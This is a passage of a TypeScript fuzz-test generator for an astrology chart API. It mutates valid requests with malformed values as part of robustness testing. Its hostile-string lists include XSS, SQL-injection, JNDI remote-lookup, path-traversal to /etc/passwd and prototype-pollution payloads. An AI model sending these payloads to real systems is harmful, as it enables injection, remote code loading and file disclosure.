/**
 * Generators of hostile requests for the fuzz test (fuzz.test.ts): a valid
 * request of each route family as a seed, broken in the ways clients and
 * attackers break them (wrong types, huge numbers, NaN strings, deep nesting,
 * unicode, invalid dates, invalid JSON, odd methods, content types and headers,
 * oversized bodies), plus wholly random JSON.
 *
 * A generated request is plain data (FuzzRequest) so that fast-check can
 * print and shrink it; `toRequest` turns it into a `Request`.
 */
import fc from 'fast-check';
import { AYANAMSAS, HOUSE_SYSTEMS, NODE_TYPES, PROFILES } from '../../src/core/settings';
import { DIVISIONS as VARGA_DIVISIONS, VARGA_METHODS } from '../../src/core/varga';

export const FUZZ_ORIGIN_ALLOWED = 'https://allowed.example';
export const FUZZ_ADMIN_TOKEN = 'fuzz-admin-token-0123456789abcdef';
export const SYNC_LIMIT = 16 * 1024;
export const BULK_LIMIT = 5 * 1024 * 1024;

export type Family = 'standard' | 'legacy';

/** What a route takes, which decides the seed request and the mutations that matter. */
export type RouteKind =
  | 'chart-post'
  | 'chart-get'
  | 'divisional-one-post'
  | 'divisional-one-get'
  | 'divisional-many'
  | 'transits'
  | 'legacy'
  | 'batch'
  | 'bulk'
  | 'bulk-status'
  | 'bulk-results'
  | 'qstash-chunk'
  | 'qstash-abandoned'
  | 'log-level'
  | 'key-create'
  | 'key-revoke'
  | 'admin-other'
  | 'plain';

export interface RouteSpec {
  method: string;
  /** OpenAPI style: `/v1/bulk/{jobId}`. */
  template: string;
  kind: RouteKind;
  family: Family;
  /** Takes `Authorization: Bearer <ADMIN_TOKEN>`. */
  admin: boolean;
}

const LEGACY_PATH = /^\/(lahiri|raman|async)\/|^\/batch\/calculate$/;

export function classify(method: string, template: string): RouteSpec {
  const m = method.toUpperCase();
  const family: Family = LEGACY_PATH.test(template) ? 'legacy' : 'standard';
  const admin = /^\/(cache\/clear|logging\/level|admin\/)/.test(template);
  const kind = ((): RouteKind => {
    if (template === '/v1/charts/natal') return m === 'GET' ? 'chart-get' : 'chart-post';
    if (template === '/v1/charts/divisional/{division}') return m === 'GET' ? 'divisional-one-get' : 'divisional-one-post';
    if (template === '/v1/charts/divisional') return 'divisional-many';
    if (template === '/v1/transits') return 'transits';
    if (template === '/batch/calculate') return 'batch';
    if (template.startsWith('/async/')) return 'plain'; // old-shape errors; its inputs are covered by test/worker/legacy-bulk.test.ts
    if (family === 'legacy') return 'legacy';
    if (template === '/v1/bulk') return 'bulk';
    if (template === '/v1/bulk/{jobId}') return 'bulk-status';
    if (template === '/v1/bulk/{jobId}/results') return 'bulk-results';
    if (template === '/internal/bulk/chunk') return 'qstash-chunk';
    if (template === '/internal/bulk/abandoned') return 'qstash-abandoned';
    if (template === '/logging/level' && m === 'PUT') return 'log-level';
    if (template === '/admin/keys' && m === 'POST') return 'key-create';
    if (template.startsWith('/admin/keys/')) return 'key-revoke';
    if (admin) return 'admin-other';
    return 'plain';
  })();
  return { method: m, template, kind, family, admin };
}

// ---------------------------------------------------------------------------
// Serialisation: JSON text that may carry what JSON.stringify cannot produce.

/** A token written verbatim into the JSON text (`NaN`, `1e999`, 400 digits…). */
export class Raw {
  constructor(readonly text: string) {}
  toJSON() {
    return `Raw(${this.text.length > 40 ? `${this.text.slice(0, 40)}…` : this.text})`;
  }
}

/** An object written with these entries in order, duplicate keys included. */
export class Entries {
  constructor(readonly entries: ReadonlyArray<readonly [string, unknown]>) {}
}

export function serialise(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (value instanceof Entries) return `{${value.entries.map(([k, v]) => `${JSON.stringify(k)}:${serialise(v)}`).join(',')}}`;
  if (Array.isArray(value)) return `[${value.map(serialise).join(',')}]`;
  if (value !== null && typeof value === 'object') return serialise(new Entries(Object.entries(value)));
  return JSON.stringify(value) ?? 'null';
}

// ---------------------------------------------------------------------------
// Seeds: one valid request per route kind.

export const NATAL = { datetime: '1996-12-07T10:34:00', timezone: 'Asia/Kolkata', latitude: 13.0878, longitude: 80.2785 };
export const LEGACY = { user_name: 'Asha', birth_date: '1990-05-15', birth_time: '14:30:00', latitude: 28.6139, longitude: 77.209, timezone_offset: 5.5 };

/** A chunk message as QStash would deliver it (for a job that does not exist). */
const CHUNK = { v: 1, jobId: 'bj_fuzz', chunk: 0, items: [{ index: 0, id: 'n1', type: 'natal', input: { ...NATAL } }] };

export function seedBody(spec: RouteSpec): Record<string, unknown> | null {
  switch (spec.kind) {
    case 'chart-post':
      return { ...NATAL };
    case 'divisional-one-post':
      return { ...NATAL, method: 'parivritti' };
    case 'divisional-many':
      return { ...NATAL, divisions: ['D9', 2], methods: { D2: 'parivritti' } };
    case 'transits':
      return { ...NATAL, at: '2026-01-01T00:00:00Z' };
    case 'legacy':
      return { ...LEGACY };
    case 'batch':
      return { requests: [{ type: 'navamsa', data: { ...LEGACY } }, { type: 'natal', data: { ...LEGACY }, ayanamsa: 'raman' }] };
    case 'bulk':
      return {
        items: [
          { id: 'n1', type: 'natal', input: { ...NATAL } },
          { id: 't1', type: 'transits', input: { ...NATAL, at: '2026-01-01T00:00:00Z' } },
          { id: 'd1', type: 'divisional', input: { ...NATAL, divisions: ['D9', 'D60'] } },
        ],
      };
    case 'qstash-chunk':
      return { ...CHUNK };
    case 'qstash-abandoned':
      return { sourceBody: btoa(JSON.stringify(CHUNK)), status: 500, retried: 3, error: 'timeout' };
    case 'log-level':
      return { level: 'error', ttlSec: 60 };
    case 'key-create':
      return { name: 'fuzz', plan: 'free' };
    default:
      return null;
  }
}

/** Seed query of the GET routes that validate their query. */
export function seedQuery(spec: RouteSpec): Array<[string, string]> {
  const natal: Array<[string, string]> = Object.entries(NATAL).map(([k, v]) => [k, String(v)]);
  if (spec.kind === 'chart-get') return natal;
  if (spec.kind === 'divisional-one-get') return [...natal, ['method', 'parivritti']];
  if (spec.kind === 'bulk-results') return [['cursor', '0'], ['limit', '10']];
  return [];
}

/** Field paths worth breaking, per kind (a path is a list of keys). */
export function fieldPaths(spec: RouteSpec): string[][] {
  const chart = ['datetime', 'timezone', 'utcOffset', 'latitude', 'longitude', 'ayanamsa', 'node', 'houseSystem', 'profile'];
  const legacy = ['user_name', 'birth_date', 'birth_time', 'latitude', 'longitude', 'timezone_offset'];
  switch (spec.kind) {
    case 'chart-post':
    case 'chart-get':
      return chart.map((f) => [f]);
    case 'divisional-one-post':
    case 'divisional-one-get':
      return [...chart, 'method'].map((f) => [f]);
    case 'divisional-many':
      return [...[...chart, 'divisions', 'methods', 'method'].map((f) => [f]), ['divisions', '0'], ['methods', 'D2']];
    case 'transits':
      return [...chart, 'at'].map((f) => [f]);
    case 'legacy':
      return legacy.map((f) => [f]);
    case 'batch':
      return [['requests'], ['requests', '0'], ['requests', '0', 'type'], ['requests', '0', 'ayanamsa'], ['requests', '0', 'data'], ...legacy.map((f) => ['requests', '0', 'data', f])];
    case 'bulk':
      return [
        ['items'],
        ['callbackUrl'],
        ['items', '0'],
        ['items', '0', 'id'],
        ['items', '0', 'type'],
        ['items', '0', 'input'],
        ...chart.map((f) => ['items', '0', 'input', f]),
        ['items', '1', 'input', 'at'],
        ['items', '2', 'input', 'divisions'],
        ['items', '2', 'input', 'methods'],
      ];
    case 'qstash-chunk':
      return [['v'], ['jobId'], ['chunk'], ['items'], ['items', '0', 'index'], ['items', '0', 'type'], ['items', '0', 'input'], ['items', '0', 'input', 'latitude']];
    case 'qstash-abandoned':
      return [['sourceBody'], ['status'], ['retried'], ['error']];
    case 'log-level':
      return [['level'], ['ttlSec']];
    case 'key-create':
      return [['name'], ['plan']];
    case 'bulk-results':
      return [['cursor'], ['limit']];
    default:
      return [];
  }
}

/** The JSON type a strict (v1) field must have; a value of another type must never be accepted. */
export const STRICT_FIELD_TYPES: Record<string, 'string' | 'number' | 'array' | 'object'> = {
  datetime: 'string',
  timezone: 'string',
  utcOffset: 'string',
  latitude: 'number',
  longitude: 'number',
  ayanamsa: 'string',
  node: 'string',
  houseSystem: 'string',
  profile: 'string',
  method: 'string',
  at: 'string',
  methods: 'object',
};

// ---------------------------------------------------------------------------
// Hostile values.

const printableAscii = fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c));
export const asciiText = (maxLength: number) => fc.string({ unit: printableAscii, maxLength });

/** Strings that servers tend to trip on; none contains a word the leak check looks for. */
const NASTY_STRINGS = [
  '',
  ' ',
  '\t\n',
  'NaN',
  '-NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '-1e999',
  '0x1F',
  '1_000',
  '٣٫٥', // Arabic-Indic digits
  '１２', // fullwidth digits
  '13.0878\u0000',
  '\uFEFF13.0878',
  '\u0000',
  '\ud800', // lone surrogate
  '\u202Eevil', // right-to-left override
  'Z̸̢̛a̵l̷g̶o̸',
  '🜁'.repeat(40),
  '<script>alert(1)</script>',
  "'; DROP TABLE charts; --",
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'true',
  '[object Object]',
  'x'.repeat(5000),
];

const NASTY_DATETIMES = [
  '2021-02-30T10:00',
  '2021-02-29T10:00:00',
  '0000-00-00T00:00',
  '0999-12-31T23:59',
  '3000-01-01T00:00',
  '9999-12-31T23:59:59',
  '-000001-01-01T00:00',
  '+275760-09-13T00:00:00Z',
  '2021-13-01T00:00',
  '2021-01-01T24:00',
  '2021-01-01T23:60',
  '2021-01-01T23:59:60',
  '2021-01-01T10:00:00+25:00',
  '2021-01-01T10:00:00+05:30:99',
  '2021-01-01T10:00:00Z[Asia/Kolkata]',
  '2021-01-01T10:00:00.1234567891234',
  '2021-01-01 10:00',
  '2021-01-01',
  '10:00',
  'T',
  '2021-W01-1T00:00',
  '2021-001T00:00',
  '1996-12-07T10:34:00-00:00',
  '1996-12-07T10:34:00z',
  '1996-12-07t10:34:00',
  '1600-01-01T00:00:00Z',
  '2021-03-14T02:30:00',
  '2021-11-07T01:30:00',
];

const NASTY_ZONES = ['UTC', 'Etc/GMT+14', 'Etc/GMT-14', 'Factory', 'localtime', 'posixrules', 'Asia/Kolkata ', 'asia/kolkata', 'Asia/Calcutta', 'EST5EDT', 'Mars/Olympus', 'UTC+05:30', '+05:30', 'Z', ''];
const NASTY_OFFSETS = ['+05:30', '+14:00', '-12:00', '+14:01', '-24:00', '+99:99', '05:30', '+5:30', '+05:30:00', '+0530', 'Z', '−05:00'];

/** Raw JSON tokens JSON.stringify would never write. */
const RAW_TOKENS = ['NaN', 'Infinity', '-Infinity', '1e999', '-1e999', '1e-999', '-0', '0.0000000000000000000000001', '1'.repeat(400), '1.7976931348623157e309', 'undefined', '0x10', '.5', '5.', '+1', '01'];

const depthNested = fc.record({ depth: fc.integer({ min: 20, max: 3000 }), open: fc.constantFrom('[', '{"a":') }).map(({ depth, open }) => {
  const close = open === '[' ? ']' : '}';
  return new Raw(`${open.repeat(depth)}1${close.repeat(depth)}`);
});

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -0, 1, -1, 91, -181, 1e308, -1e308, 5e-324, 2 ** 53 + 1, -(2 ** 63), 0.1 + 0.2, [], {}, [1, 2], { a: 1 }, [null], new Raw('{"__proto__":{"polluted":true}}')) },
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_DATETIMES, ...NASTY_ZONES, ...NASTY_OFFSETS) },
  { weight: 2, arbitrary: fc.constantFrom(...RAW_TOKENS).map((t) => new Raw(t)) },
  { weight: 2, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 400 }) },
  { weight: 1, arbitrary: depthNested },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  // Near-valid: numbers as strings, a valid value of another field.
  { weight: 2, arbitrary: fc.constantFrom<unknown>('13.0878', ' 80.27 ', '5.5', 'D9', 'lahiri', 'whole_sign', 'true', '2026-01-01T00:00:00Z', 'Asia/Kolkata', 'parivritti') },
);

/**
 * Valid values at the edges of what each field takes: polar latitudes with
 * cusp-based houses, the ends of the supported years, odd but real zones and
 * offsets, every setting and division. They must compute or be refused with a
 * 4xx, never crash the engine.
 */
const EDGE_VALUES: Record<string, readonly unknown[]> = {
  latitude: [90, -90, 89.999999, -89.999999, 66.5622, -66.5622, 0, -0, 1e-300, '90', '-90.0'],
  longitude: [180, -180, 179.999999, 0, -0, 1e-300, '180', '-180'],
  datetime: [
    '1000-01-01T00:00',
    '1000-01-01T00:00:00Z',
    '2999-12-31T23:59:59.999',
    '2999-12-31T23:59:59+14:00',
    '1799-12-31T23:59:59Z',
    '2400-01-01T00:00:00Z',
    '1582-10-10T12:00',
    '1900-02-29T12:00',
    '2000-02-29T12:00',
    '1996-12-07T10:34:00.000000001',
    '2021-03-14T02:30:00',
    '2021-11-07T01:30:00',
  ],
  at: ['1000-01-01T00:00:00Z', '2999-12-31T23:59:59Z', '1800-01-01T00:00:00Z', '2399-12-31T23:59:59Z', '2026-01-01T00:00:00+14:00', '2026-01-01T00:00:00-12:00'],
  timezone: ['Pacific/Kiritimati', 'Pacific/Pago_Pago', 'Antarctica/Troll', 'America/St_Johns', 'Asia/Kathmandu', 'Australia/Lord_Howe', 'Etc/GMT+12', 'UTC', 'Europe/Dublin', 'Africa/Casablanca'],
  utcOffset: ['+14:00', '-12:00', '+00:00', '-00:00', '+05:45', '+13:45', '-03:30', '+05:30:30'],
  ayanamsa: AYANAMSAS,
  node: NODE_TYPES,
  houseSystem: HOUSE_SYSTEMS,
  profile: PROFILES,
  method: ['parashara', 'parivritti', 'rath'],
  divisions: [[...VARGA_DIVISIONS], VARGA_DIVISIONS.map((d) => `D${d}`), [60, 60, 'D60', '60'], [1]],
  methods: [Object.fromEntries(VARGA_DIVISIONS.map((d) => [`D${d}`, VARGA_METHODS[d][VARGA_METHODS[d].length - 1]]))],
  birth_date: ['1000-01-01', '2999-12-31', '0999-12-31', '3000-01-01', '1900-02-29', '2000-02-29', '0000-00-00', '9999-99-99'],
  birth_time: ['00:00', '23:59:59', '24:00', '23:60', '12:00:60', '99:99:99'],
  timezone_offset: [14, -14, 13.75, -9.5, 0, -0, 5.75, '14', '-14.0', '5.999999999'],
  user_name: ['', 'ü'.repeat(200), 'x'.repeat(201)],
  chart_type: ['natal', 'transit', 'shodasha_varga_summary', 'shodasha_varga_signs', 'navamsha_d9', '__proto__', 'constructor', 'toString', 'hasOwnProperty'],
  ttlSec: [1, 86_400, 604_800, 0, 2 ** 31],
  level: ['debug', 'info', 'warn', 'error'],
};

/** A value for the last key of `path`: mostly hostile, sometimes an edge value the field takes. */
function valueFor(path: readonly string[]): fc.Arbitrary<unknown> {
  const edges = EDGE_VALUES[path[path.length - 1]];
  return edges ? fc.oneof({ weight: 2, arbitrary: hostileValue }, { weight: 1, arbitrary: fc.constantFrom(...edges) }) : hostileValue;
}

/** A misspelling of a known field: one or two character edits, or another case. */
function typoOf(name: string): fc.Arbitrary<string> {
  if (name.length < 2) return fc.constantFrom(name.toUpperCase(), `${name}${name}`, `_${name}`);
  return fc.oneof(
    fc.constant(name.toUpperCase()),
    fc.constant(name.charAt(0).toUpperCase() + name.slice(1)),
    fc.integer({ min: 0, max: name.length - 1 }).map((i) => name.slice(0, i) + name.slice(i + 1)),
    fc.tuple(fc.integer({ min: 0, max: name.length }), fc.constantFrom('e', 't', '_', 'x')).map(([i, ch]) => name.slice(0, i) + ch + name.slice(i)),
    fc.integer({ min: 0, max: name.length - 2 }).map((i) => name.slice(0, i) + name[i + 1] + name[i] + name.slice(i + 2)),
  );
}

export function unknownKey(known: readonly string[]): fc.Arbitrary<string> {
  const typos = known.length ? fc.constantFrom(...known).chain(typoOf) : fc.constant('latitute');
  return fc
    .oneof(
      { weight: 4, arbitrary: typos },
      { weight: 2, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', '', ' ', 'place', 'extra', 'lat', 'lng', 'tz', 'date', 'hasOwnProperty', '$where', '0', '🜁') },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
      { weight: 1, arbitrary: fc.constant('k'.repeat(3000)) },
    )
    .filter((k) => !known.includes(k));
}

// ---------------------------------------------------------------------------
// Bodies.

export type Mutation =
  | { op: 'set'; path: string[]; value: unknown }
  | { op: 'delete'; path: string[] }
  | { op: 'add'; path: string[]; key: string; value: unknown }
  | { op: 'duplicate'; key: string; value: unknown };

export type FuzzBody =
  | { kind: 'none' }
  | { kind: 'json'; value: unknown; mutations: Mutation[] }
  | { kind: 'text'; text: string; note: string }
  | { kind: 'oversize'; bytes: number };

function clone<T>(value: T): T {
  return value === undefined ? value : (structuredClone(value) as T);
}

/** Applies mutations to a copy of `seed`; paths that no longer exist are skipped. */
export function mutate(seed: unknown, mutations: readonly Mutation[]): unknown {
  // Unmutated values go out as they are (a clone would turn Raw tokens into plain objects).
  if (mutations.length === 0) return seed;
  let root: any = clone(seed);
  for (const m of mutations) {
    if (m.op === 'duplicate') {
      if (root && typeof root === 'object' && !Array.isArray(root) && !(root instanceof Entries)) {
        root = new Entries([...Object.entries(root), [m.key, m.value]]);
      }
      continue;
    }
    if (root instanceof Entries) continue;
    const parentPath = m.op === 'add' ? m.path : m.path.slice(0, -1);
    let parent: any = root;
    for (const key of parentPath) parent = parent && typeof parent === 'object' && !(parent instanceof Raw) ? parent[key] : undefined;
    if (!parent || typeof parent !== 'object' || parent instanceof Raw || parent instanceof Entries) continue;
    if (m.op === 'add') Object.defineProperty(parent, m.key, { value: m.value, enumerable: true, writable: true, configurable: true });
    else if (m.op === 'set') parent[m.path[m.path.length - 1]] = m.value;
    else if (Array.isArray(parent)) parent.splice(Number(m.path[m.path.length - 1]), 1);
    else delete parent[m.path[m.path.length - 1]];
  }
  return root;
}

function knownKeysAt(seed: unknown, path: readonly string[]): string[] {
  let node: any = seed;
  for (const key of path) node = node?.[key];
  return node && typeof node === 'object' && !Array.isArray(node) ? Object.keys(node) : [];
}

function mutationArb(spec: RouteSpec, seed: Record<string, unknown>): fc.Arbitrary<Mutation> {
  const paths = fieldPaths(spec).filter((p) => p.length > 0);
  const containers = [[], ...paths.filter((p) => knownKeysAt(seed, p).length > 0)];
  const pathArb: fc.Arbitrary<string[]> = paths.length ? fc.constantFrom(...paths) : fc.constant(['x']);
  return fc.oneof(
    { weight: 5, arbitrary: pathArb.chain((path) => fc.record({ op: fc.constant('set' as const), path: fc.constant(path), value: valueFor(path) })) },
    { weight: 2, arbitrary: fc.record({ op: fc.constant('delete' as const), path: pathArb }) },
    {
      weight: 3,
      arbitrary: fc
        .constantFrom(...containers)
        .chain((path) => fc.record({ op: fc.constant('add' as const), path: fc.constant(path), key: unknownKey(knownKeysAt(seed, path)), value: hostileValue })),
    },
    { weight: 1, arbitrary: fc.record({ op: fc.constant('duplicate' as const), key: fc.constantFrom(...(Object.keys(seed).length ? Object.keys(seed) : ['x'])), value: hostileValue }) },
  );
}

// ---------------------------------------------------------------------------
// Valid requests anywhere in the input space: every setting, place and time
// the API takes. They must compute, or be refused with a 4xx (a DST gap, cusps
// at a pole), never fail with a 5xx.

const pad = (n: number, width = 2) => String(n).padStart(width, '0');
const ZONES = ['Asia/Kolkata', 'America/New_York', 'Europe/London', 'Australia/Lord_Howe', 'Pacific/Kiritimati', 'Pacific/Pago_Pago', 'Asia/Kathmandu', 'America/St_Johns', 'Antarctica/Troll', 'UTC', 'Africa/Casablanca', 'America/Sao_Paulo'];

const wallTime = fc
  .record({ year: fc.integer({ min: 1000, max: 2999 }), month: fc.integer({ min: 1, max: 12 }), day: fc.integer({ min: 1, max: 28 }), hour: fc.integer({ min: 0, max: 23 }), minute: fc.integer({ min: 0, max: 59 }), second: fc.integer({ min: 0, max: 59 }) })
  .map(({ year, month, day, hour, minute, second }) => `${pad(year, 4)}-${pad(month)}-${pad(day)}T${pad(hour)}:${pad(minute)}:${pad(second)}`);
const offset = fc.record({ sign: fc.constantFrom('+', '-'), minutes: fc.integer({ min: 0, max: 14 * 60 }) }).map(({ sign, minutes }) => `${sign}${pad(Math.floor(minutes / 60))}:${pad(minutes % 60)}`);
const instant = fc.tuple(wallTime, fc.oneof(fc.constant('Z'), offset)).map(([t, o]) => t + o);

const validChart = fc
  .record({
    time: fc.oneof(
      fc.record({ datetime: wallTime, timezone: fc.constantFrom(...ZONES) }),
      fc.record({ datetime: wallTime, utcOffset: offset }),
      fc.record({ datetime: instant }),
    ),
    latitude: fc.double({ min: -90, max: 90, noNaN: true }),
    longitude: fc.double({ min: -180, max: 180, noNaN: true }),
    settings: fc.record(
      { ayanamsa: fc.constantFrom(...AYANAMSAS), node: fc.constantFrom(...NODE_TYPES), houseSystem: fc.constantFrom(...HOUSE_SYSTEMS), profile: fc.constantFrom(...PROFILES) },
      { requiredKeys: [] },
    ),
  })
  .map(({ time, latitude, longitude, settings }) => ({ ...time, latitude, longitude, ...settings }));

const division = fc.constantFrom(...VARGA_DIVISIONS).chain((d) => fc.constantFrom<string | number>(d, `D${d}`, String(d)));
const validDivisional = fc
  .tuple(validChart, fc.uniqueArray(division, { minLength: 1, maxLength: 5 }), fc.option(fc.constantFrom('parashara', 'parivritti', 'rath'), { nil: undefined }))
  .map(([chart, divisions, method]) => ({ ...chart, divisions, ...(method === undefined ? {} : { method }) }));
const validTransit = fc.tuple(validChart, instant).map(([chart, at]) => ({ ...chart, at }));

const validLegacy = fc
  .record({
    user_name: fc.string({ maxLength: 30 }),
    date: wallTime,
    latitude: fc.oneof(fc.double({ min: -90, max: 90, noNaN: true }), fc.integer({ min: -90, max: 90 }).map(String)),
    longitude: fc.double({ min: -180, max: 180, noNaN: true }),
    timezone_offset: fc.oneof(fc.integer({ min: -56, max: 56 }).map((q) => q / 4), fc.double({ min: -14, max: 14, noNaN: true })),
  })
  .map(({ date, ...rest }) => ({ ...rest, birth_date: date.slice(0, 10), birth_time: date.slice(11) }));

const LEGACY_BATCH_TYPES = ['natal', 'navamsa', 'd9', 'hora', 'd10', 'd30', 'd60', 'transit'];

/** A valid body for the route, drawn from its whole input space; null for routes without one. */
export function validBodyArb(spec: RouteSpec): fc.Arbitrary<Record<string, unknown>> | null {
  switch (spec.kind) {
    case 'chart-post':
      return validChart;
    case 'divisional-one-post':
      return validChart;
    case 'divisional-many':
      return validDivisional;
    case 'transits':
      return validTransit;
    case 'legacy':
      return validLegacy;
    case 'batch':
      return fc.array(fc.tuple(validLegacy, fc.constantFrom(...LEGACY_BATCH_TYPES)), { minLength: 1, maxLength: 3 }).map((rs) => ({ requests: rs.map(([data, type]) => ({ type, data })) }));
    case 'bulk':
      return fc
        .array(
          fc.oneof(
            validChart.map((input) => ({ type: 'natal', input })),
            validDivisional.map((input) => ({ type: 'divisional', input })),
            validTransit.map((input) => ({ type: 'transits', input })),
          ),
          { minLength: 1, maxLength: 3 },
        )
        .map((items) => ({ items: items.map((item, i) => ({ id: `v${i}`, ...item })) }));
    default:
      return null;
  }
}

const BROKEN_JSON = [
  '',
  ' ',
  '{',
  '}',
  '{"datetime": ',
  '{"latitude": NaN}',
  '{"latitude": 1e999, "longitude": -1e999}',
  "{'datetime': '1996-12-07T10:34:00'}",
  '{"a":1,}',
  '[1,2,]',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  '\uFEFF{"datetime":"1996-12-07T10:34:00"}',
  'null',
  'true',
  '0',
  '"just a string"',
  '[]',
  '{"a":"\\ud800"}',
  '{"a":"\\u00"}',
  '{"a":"\\x41"}',
  '{"a":\u0000}',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  '/* comment */ {}',
  'datetime=1996-12-07T10:34:00&latitude=13',
  '<?xml version="1.0"?><a/>',
];

export function bodyArb(spec: RouteSpec): fc.Arbitrary<FuzzBody> {
  const seed = seedBody(spec);
  const limit = spec.kind === 'bulk' ? BULK_LIMIT : spec.kind.startsWith('qstash') ? 1024 * 1024 : SYNC_LIMIT;
  const randomJson = fc.oneof(fc.jsonValue({ maxDepth: 4 }), fc.dictionary(fc.string({ maxLength: 12 }), hostileValue, { maxKeys: 8 }));
  const text = fc.oneof(
    fc.constantFrom(...BROKEN_JSON).map((t) => ({ kind: 'text' as const, text: t, note: 'broken json' })),
    depthNested.map((raw) => ({ kind: 'text' as const, text: raw.text, note: 'deep nesting' })),
    fc.string({ unit: 'binary', maxLength: 200 }).map((t) => ({ kind: 'text' as const, text: t, note: 'random text' })),
    fc
      .tuple(fc.constant(seed ? serialise(seed) : '{}'), fc.nat())
      .map(([t, n]) => ({ kind: 'text' as const, text: t.slice(0, n % Math.max(1, t.length)), note: 'truncated json' })),
  );
  // Bulk oversize bodies cost 5 MiB each: a few are enough.
  const oversize = fc.integer({ min: 1, max: 4096 }).map((over) => ({ kind: 'oversize' as const, bytes: limit + over }));
  const options: Array<fc.WeightedArbitrary<FuzzBody>> = [
    { weight: 1, arbitrary: fc.constant({ kind: 'none' as const }) },
    { weight: 3, arbitrary: randomJson.map((value) => ({ kind: 'json' as const, value, mutations: [] })) },
    { weight: 3, arbitrary: text },
    { weight: spec.kind === 'bulk' ? 1 : 2, arbitrary: oversize },
  ];
  const valid = validBodyArb(spec);
  if (valid) options.push({ weight: 6, arbitrary: valid.map((value) => ({ kind: 'json' as const, value, mutations: [] })) });
  if (seed) {
    options.push({ weight: 2, arbitrary: fc.constant({ kind: 'json' as const, value: seed, mutations: [] }) });
    options.push({
      weight: 12,
      arbitrary: fc.array(mutationArb(spec, seed), { minLength: 1, maxLength: 3 }).map((mutations) => ({ kind: 'json' as const, value: seed, mutations })),
    });
  }
  return fc.oneof(...options);
}

export function bodyText(body: FuzzBody, padTo?: Record<string, unknown> | null): string | undefined {
  switch (body.kind) {
    case 'none':
      return undefined;
    case 'json':
      return serialise(mutate(body.value, body.mutations));
    case 'text':
      return body.text;
    case 'oversize': {
      const base = JSON.stringify({ ...(padTo ?? {}), padding: '' });
      return JSON.stringify({ ...(padTo ?? {}), padding: 'x'.repeat(Math.max(0, body.bytes - base.length)) });
    }
  }
}

// ---------------------------------------------------------------------------
// Paths and queries.

/** encodeURIComponent, with lone surrogates (which it refuses) sent as U+FFFD, as a browser would. */
export function encodeUri(text: string): string {
  return encodeURIComponent(text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));
}

const DIVISION_PARAMS = ['D9', '9', 'D1', 'D60', 'd9', 'D13', 'D09', '0', '-1', 'D', '1e1', '9.0', 'D9 ', '%20', '%00', '%F0%9F%9C%81', '%2e%2e', 'a%2Fb', '%ZZ', 'x'.repeat(300), 'navamsa'];
const IDS = ['bj_00000000000000000000', 'nope', '0', '-1', '%00', '%2e%2e', 'a%2Fb', '%ZZ', 'x'.repeat(500), '%F0%9F%9C%81', "'or'1'='1", 'key_4fJ8kQ2mZx7B'];

/** The route's path with its parameters filled, and a suffix that may lead elsewhere (`/`, `%2F`, `;x=1`…). */
export function pathArb(spec: RouteSpec, realIds: Record<string, string>): fc.Arbitrary<{ path: string; suffix: string }> {
  const params = [...spec.template.matchAll(/\{(\w+)\}/g)].map((m) => m[1]);
  const valueFor = (name: string): fc.Arbitrary<string> => {
    const real = realIds[name];
    const known = name === 'division' ? DIVISION_PARAMS : real ? [real, ...IDS] : IDS;
    return fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...known) },
      { weight: 1, arbitrary: asciiText(40).map(encodeUri) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }).map(encodeUri) },
    );
  };
  const filled = params.length
    ? fc.tuple(...params.map(valueFor)).map((values) => params.reduce((path, name, i) => path.replace(`{${name}}`, values[i]), spec.template))
    : fc.constant(spec.template);
  const suffix = fc.oneof({ weight: 9, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constantFrom('/', '//', '/..', '%2F', ';x=1', '%00', '/extra', '.json') });
  return fc.record({ path: filled, suffix });
}

export type FuzzQuery = { kind: 'pairs'; pairs: Array<[string, string]> } | { kind: 'raw'; text: string };

export function queryArb(spec: RouteSpec): fc.Arbitrary<FuzzQuery> {
  const seed = seedQuery(spec);
  const known = seed.map(([k]) => k);
  const asText = (v: unknown) => (typeof v === 'string' ? v : serialise(v));
  const value = fc.oneof(hostileValue.map(asText), fc.constantFrom('13.0878', '80.2785', '', '1e3', '+13', '.5', '13.', '1'.repeat(40)));
  const knownKey = fc.constantFrom(...(known.length ? known : ['x']));
  const pairMutation = fc.oneof(
    knownKey.chain((key) => fc.record({ op: fc.constant('set'), key: fc.constant(key), value: fc.oneof(value, valueFor([key]).map(asText)) })),
    fc.record({ op: fc.constant('delete'), key: fc.constantFrom(...(known.length ? known : ['x'])), value: fc.constant('') }),
    fc.record({ op: fc.constant('add'), key: unknownKey(known), value }),
    fc.record({ op: fc.constant('repeat'), key: fc.constantFrom(...(known.length ? known : ['x'])), value }),
  );
  const mutated = fc.array(pairMutation, { maxLength: 3 }).map((ms) => {
    let pairs = [...seed];
    for (const m of ms) {
      if (m.op === 'set') pairs = pairs.map(([k, v]) => [k, k === m.key ? m.value : v] as [string, string]);
      else if (m.op === 'delete') pairs = pairs.filter(([k]) => k !== m.key);
      else pairs.push([m.key, m.value]);
    }
    return { kind: 'pairs' as const, pairs };
  });
  const validPairs = validChart.map((chart) => ({ kind: 'pairs' as const, pairs: Object.entries(chart).map(([k, v]) => [k, String(v)] as [string, string]) }));
